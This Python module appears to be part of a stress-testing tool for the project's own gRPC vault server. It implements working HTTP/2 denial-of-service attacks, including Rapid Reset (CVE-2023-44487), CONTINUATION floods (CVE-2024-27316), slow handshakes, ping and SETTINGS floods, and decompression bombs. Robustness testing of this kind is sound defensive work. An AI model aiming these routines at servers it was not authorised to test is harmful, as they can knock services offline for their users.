"""The attacks: each tries to cost the server more than the attacker."""

import asyncio
import gzip
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass

from idvault_client.transport import Tls
from tools.torture.http2 import wire
from tools.torture.http2.wire import Connection, frame

_PATH = "/idvault.v1.StatusService/GetStatus"
_CHUNK = 100
_STREAMS = 1_000
_FRAME = 16_384


@dataclass(frozen=True, slots=True)
class Target:
    """The server, the caller, and the strength: 1.0 is the full attack. body: a valid GetStatus request."""

    address: str
    tls: Tls
    body: bytes
    scale: float = 1.0

    def times(self, number: int) -> int:
        """Return a number of the full attack, scaled."""
        return max(1, int(number * self.scale))


@asynccontextmanager
async def _connected(target: Target, *, settings: bytes = b"") -> AsyncIterator[Connection]:
    connection = await Connection.open(target.address, target.tls, settings=settings)
    try:
        yield connection
    finally:
        await connection.close()


def _begin(connection: Connection, *more: tuple[str, str], stream: int | None = None) -> bytes:
    """Return the frame that starts a call."""
    return frame(
        wire.HEADERS,
        flags=wire.END_HEADERS,
        stream=stream or connection.stream(),
        payload=wire.call_headers(_PATH, *more),
    )


def _call(connection: Connection, message: bytes, *more: tuple[str, str]) -> list[bytes]:
    """Return the frames of one complete call, each of maximum size."""
    stream = connection.stream()
    parts = [message[place : place + _FRAME] for place in range(0, len(message), _FRAME)]
    return [
        _begin(connection, *more, stream=stream),
        *(frame(wire.DATA, stream=stream, payload=part) for part in parts),
        frame(wire.DATA, flags=wire.END_STREAM, stream=stream),
    ]


async def _flood(connection: Connection, frames: bytes, times: int) -> int:
    """Send frames repeatedly until the server hangs up; return how often they were sent."""
    sent = 0
    while sent < times and not connection.closed.is_set():
        await connection.send(frames * _CHUNK)
        sent += _CHUNK
        await asyncio.sleep(0)
    return sent


async def idle_connections(target: Target) -> str:
    """Hundreds of connections that send only the preface."""
    connections: list[Connection] = []
    try:
        for _ in range(target.times(600)):
            connections.append(await Connection.open(target.address, target.tls))
        await asyncio.sleep(2 * target.scale)
        alive = sum(not connection.closed.is_set() for connection in connections)
        return f"{len(connections)} connections, {alive} of them kept"
    finally:
        await asyncio.gather(*(connection.close() for connection in connections))


async def slow_handshakes(target: Target) -> str:
    """Connections that send a TLS handshake byte by byte and never finish it."""
    host, _, port = target.address.rpartition(":")
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)
    ends = [await asyncio.open_connection(host, int(port)) for _ in range(target.times(600))]
    begin, hung_up = time.monotonic(), 0
    try:
        for byte in hello[: target.times(24)]:
            for reader, writer in ends:
                if not reader.at_eof():
                    writer.write(bytes((byte,)))
            await asyncio.sleep(0.5)
        hung_up = sum(reader.at_eof() for reader, _ in ends)
    finally:
        for _, writer in ends:
            writer.transport.abort()
    return f"{len(ends)} connections, {hung_up} hung up on after {time.monotonic() - begin:.0f} s"


async def ping_flood(target: Target) -> str:
    """Pings as fast as possible."""
    async with _connected(target) as connection:
        sent = await _flood(connection, frame(wire.PING, payload=bytes(8)), target.times(200_000))
        return _told(connection, f"{sent} pings")


async def settings_flood(target: Target) -> str:
    """SETTINGS frames as fast as possible; each needs an acknowledgement."""
    async with _connected(target) as connection:
        setting = (4).to_bytes(2, "big") + (65_535).to_bytes(4, "big")
        sent = await _flood(connection, frame(wire.SETTINGS, payload=setting), target.times(100_000))
        return _told(connection, f"{sent} settings")


async def rapid_reset(target: Target) -> str:
    """Calls that are reset at once (CVE-2023-44487)."""
    sent = 0
    async with _connected(target) as connection:
        total = target.times(100_000)
        while sent < total and not connection.closed.is_set():
            frames = b""
            for _ in range(_CHUNK):
                stream = connection.stream()
                frames += _begin(connection, stream=stream) + frame(
                    wire.RST_STREAM, stream=stream, payload=wire.CANCEL.to_bytes(4, "big")
                )
            await connection.send(frames)
            sent += _CHUNK
            await asyncio.sleep(0)
        return _told(connection, f"{sent} calls taken back")


async def one_byte_frames(target: Target) -> str:
    """Messages in frames of one byte each, and empty frames."""
    async with _connected(target) as connection:
        message = wire.message(target.body)
        for _ in range(target.times(200)):
            stream = connection.stream()
            frames = _begin(connection, stream=stream)
            for place, byte in enumerate(message):
                last = wire.END_STREAM if place == len(message) - 1 else 0
                frames += frame(wire.DATA, stream=stream)
                frames += frame(wire.DATA, flags=last, stream=stream, payload=bytes((byte,)))
            await connection.send(frames)
        await asyncio.sleep(0.5)
        return _told(connection, f"{target.times(200)} calls byte by byte")


async def oversized_messages(target: Target) -> str:
    """Messages of 2 MiB, and messages that declare 4 GiB."""
    async with _connected(target) as connection:
        for _ in range(target.times(40)):
            await connection.send(*_call(connection, wire.message(b"\n", length=2**32 - 1)))
            await connection.send(*_call(connection, wire.message(bytes(2**21))))
        await asyncio.sleep(0.5)
        return _told(connection, f"{2 * target.times(40)} messages")


async def compressed_bombs(target: Target) -> str:
    """Messages of some kilobytes that decompress to 64 MiB."""
    packed = gzip.compress(bytes(64 * 2**20), compresslevel=9)[:65_000]
    async with _connected(target) as connection:
        for _ in range(target.times(40)):
            bomb = wire.message(packed, compressed=True)
            await connection.send(*_call(connection, bomb, ("grpc-encoding", "gzip")))
        await asyncio.sleep(1)
        return _told(connection, f"{target.times(40)} bombs")


async def nested_messages(target: Target) -> str:
    """Messages nested 20,000 levels deep."""
    deep = wire.message(b"\x0b" * 20_000 + b"\x0c" * 20_000)
    async with _connected(target) as connection:
        for _ in range(target.times(400)):
            await connection.send(*_call(connection, deep))
        await asyncio.sleep(0.5)
        return _told(connection, f"{target.times(400)} messages")


async def endless_headers(target: Target) -> str:
    """Endless headers (CVE-2024-27316), and headers that are too large."""
    async with _connected(target) as connection:
        stream, block = connection.stream(), wire.header_block([("x-filler", "a" * 4_000)])
        await connection.send(frame(wire.HEADERS, stream=stream, payload=wire.call_headers(_PATH)))
        more = frame(wire.CONTINUATION, stream=stream, payload=block)
        sent = await _flood(connection, more, target.times(20_000))
        return _told(connection, f"{sent} continuations")


async def unfinished_calls(target: Target) -> str:
    """Thousands of calls, over several connections, that start and never send their message."""
    connections = [await Connection.open(target.address, target.tls) for _ in range(target.times(10))]
    try:
        for connection in connections:
            for _ in range(_STREAMS // _CHUNK):
                await connection.send(*(_begin(connection) for _ in range(_CHUNK)))
                # As fast as the server accepts them; gRPC would refuse faster ones.
                await asyncio.sleep(0.05)
        await asyncio.sleep(max(2.0, 8.0 * target.scale))
        ended = sum(connection.seen["RST_STREAM"] + connection.seen["HEADERS"] for connection in connections)
        return f"{_STREAMS * len(connections)} calls begun, {ended} of them ended by the vault"
    finally:
        await asyncio.gather(*(connection.close() for connection in connections))


async def slow_readers(target: Target) -> str:
    """Calls whose answers are never read: a window of zero."""
    nothing = (4).to_bytes(2, "big") + bytes(4)
    async with _connected(target, settings=nothing) as connection:
        message = wire.message(target.body)
        for _ in range(target.times(2_000)):
            await connection.send(*_call(connection, message))
        await asyncio.sleep(1)
        return _told(connection, f"{target.times(2_000)} calls")


def _told(connection: Connection, what: str) -> str:
    answers = ", ".join(f"{count} {name}" for name, count in connection.seen.most_common(4))
    end = f"; hung up: {connection.goodbye.decode('ascii', 'replace')}" if connection.goodbye else ""
    return f"{what}; answered {answers or 'nothing'}{end}"


Attack = Callable[[Target], Awaitable[str]]
ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        idle_connections, slow_handshakes, ping_flood, settings_flood, rapid_reset, one_byte_frames,
        oversized_messages, compressed_bombs, nested_messages, endless_headers, unfinished_calls,
        slow_readers,
    )
}  # fmt: skip
